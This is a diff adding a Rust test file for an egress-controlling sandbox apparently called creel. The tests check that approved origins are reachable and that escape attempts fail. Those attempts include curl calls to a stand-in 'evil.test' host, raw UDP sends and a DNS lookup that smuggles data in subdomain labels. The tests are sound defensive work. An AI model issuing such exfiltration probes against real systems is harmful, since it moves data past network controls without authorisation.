@@ -1,0 +1,105 @@
+//! Nothing reaches what is not approved; what is approved is reached unconfigured.
+
+use creel_e2e::fresh;
+use creel_testkit::{Creel, Origin, Sink, UdpSink};
+
+/// An approved TLS origin at 127.0.0.1 under the name `origin.test`, and its configuration.
+fn world(name: &str, at: &str) -> (Creel, Origin, String) {
+    let creel = fresh(name).unwrap();
+    let origin = Origin::https(at, &["origin.test"]).unwrap();
+    let ca = creel.file("ca.pem", origin.ca_pem()).unwrap();
+    let (ip, port) = (origin.address().ip(), origin.address().port());
+    let text = format!(
+        "[[egress.allow]]\nhost = \"origin.test\"\nports = [{port}]\naddress = \"{ip}\"\nca = \"{}\"\n",
+        ca.display()
+    );
+    let config = creel.file("creel.toml", &text).unwrap().display().to_string();
+    (creel, origin, config)
+}
+
+#[test]
+fn curl_python_node_and_git_reach_an_approved_origin_unconfigured() {
+    let (creel, origin, config) = world("egress-open", "127.0.0.1:0");
+    let url = format!("https://origin.test:{}", origin.address().port());
+    let programs = [
+        ("curl", format!("curl -sS --max-time 20 {url}/curl")),
+        ("curl, no environment", format!("env -i curl -sS --max-time 20 {url}/curl-bare")),
+        ("python", format!("python3 -c 'import urllib.request as u; print(u.urlopen(\"{url}/python\", timeout=20).read().decode())'")),
+        ("python, no environment", format!("env -i python3 -c 'import urllib.request as u; print(u.urlopen(\"{url}/python-bare\", timeout=20).read().decode())'")),
+        ("node", format!("node -e 'fetch(\"{url}/node\").then(r => r.text()).then(console.log)'")),
+    ];
+    for (name, line) in programs {
+        let ran = creel.jail(&["--config", &config, "--no-disk-limit"], &line).unwrap();
+        assert!(ran.code == 0 && ran.out.contains("hello from ORIGIN"), "{name}: {ran:?}");
+    }
+    let git = creel.jail(&["--config", &config, "--no-disk-limit"], &format!("git ls-remote {url}/repo.git")).unwrap();
+    assert!(git.code == 0 && git.out.contains("refs/heads/main"), "git: {git:?}");
+    let paths: Vec<String> = origin.asked().into_iter().map(|asked| asked.path).collect();
+    for path in ["/curl", "/curl-bare", "/python", "/python-bare", "/node"] {
+        assert!(paths.iter().any(|seen| seen == path), "{path} in {paths:?}");
+    }
+    let log = creel.run(&["log", "--json"]).unwrap();
+    assert!(log.out.contains("\"resolve\"") && log.out.contains("/curl"), "{}", log.out);
+}
+
+#[test]
+fn nothing_reaches_what_is_not_approved_and_the_sinks_stay_empty() {
+    let (creel, origin, config) = world("egress-shut", "127.0.0.1:0");
+    let sink = Sink::listen("127.0.0.2:0").unwrap();
+    let sink6 = Sink::listen("[::1]:0").unwrap();
+    let udp = UdpSink::listen("127.0.0.2:0").unwrap();
+    let (to, to6, to_udp) = (sink.address(), sink6.address(), udp.address());
+    let tries = [
+        format!("curl -sk --max-time 5 https://evil.test:{}/ && exit 0 || exit 9", to.port()),
+        format!("curl -s --max-time 5 http://evil.test:{}/ && exit 0 || exit 9", to.port()),
+        format!("curl -sk --max-time 5 --resolve evil.test:{p}:{ip} https://evil.test:{p}/ | grep -q ORIGIN && exit 0 || exit 9", p = to.port(), ip = to.ip()),
+        format!("curl -sk --max-time 5 https://[{}]:{}/ && exit 0 || exit 9", to6.ip(), to6.port()),
+        // The approved name at another port, and another name at the approved address.
+        format!("curl -sk --max-time 5 https://origin.test:{}/ -o /dev/null -w '%{{http_code}}' | grep -q 200 && exit 0 || exit 9", to.port()),
+        format!("python3 -c 'import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b\"x\",(\"{}\",{}))' && exit 9", to_udp.ip(), to_udp.port()),
+        "python3 -c 'import socket; socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(b\"x\",(\"192.0.2.1\",443))' && exit 0 || exit 9".to_owned(),
+        "python3 -c 'import socket; socket.socket(socket.AF_INET6,socket.SOCK_DGRAM).sendto(b\"x\",(\"2001:db8::1\",443))' && exit 0 || exit 9".to_owned(),
+        "getent hosts data.in.a.label.evil.test && exit 0 || exit 9".to_owned(),
+    ];
+    for line in tries {
+        let ran = creel.jail(&["--config", &config, "--no-disk-limit"], &line).unwrap();
+        assert_eq!(ran.code, 9, "{line}: {ran:?}");
+    }
+    assert_eq!((sink.visits(), sink6.visits(), udp.visits()), (0, 0, 0));
+    assert_eq!(origin.asked().len(), 0);
+    let log = creel.run(&["log", "--json"]).unwrap();
+    assert!(log.out.contains("evil.test") && log.out.contains("\"deny\""), "{}", log.out);
+}
+
+#[test]
+fn each_sink_is_reached_once_with_the_rule_opened() {
+    let creel = fresh("egress-control").unwrap();
+    let sink = Origin::http("127.0.0.2:0").unwrap();
+    let sink6 = Origin::http("[::1]:0").unwrap();
+    let text = format!(
+        "[[egress.allow]]\nhost = \"evil.test\"\nports = [{}]\naddress = \"127.0.0.2\"\nhttp = true\n\
+         [[egress.allow]]\nhost = \"six.test\"\nports = [{}]\naddress = \"::1\"\nhttp = true\n",
+        sink.address().port(),
+        sink6.address().port()
+    );
+    let config = creel.file("creel.toml", &text).unwrap().display().to_string();
+    let line = format!(
+        "curl -sS --max-time 10 http://evil.test:{}/v4 && curl -sS --max-time 10 http://six.test:{}/v6",
+        sink.address().port(),
+        sink6.address().port()
+    );
+    let ran = creel.jail(&["--config", &config, "--no-disk-limit"], &line).unwrap();
+    assert_eq!(ran.code, 0, "{ran:?}");
+    assert_eq!((sink.asked().len(), sink6.asked().len()), (1, 1));
+}
+
+#[test]
+fn a_refusal_explains_itself() {
+    let (creel, origin, config) = world("egress-why", "127.0.0.1:0");
+    let port = origin.address().port();
+    let ran = creel
+        .jail(&["--config", &config, "--no-disk-limit"], &format!("curl -sk --max-time 10 -H 'Host: other.test' https://origin.test:{port}/"))
+        .unwrap();
+    assert!(ran.out.contains("creel:record:") && ran.out.contains("egress/"), "{ran:?}");
+    assert_eq!(origin.asked().len(), 0);
+}
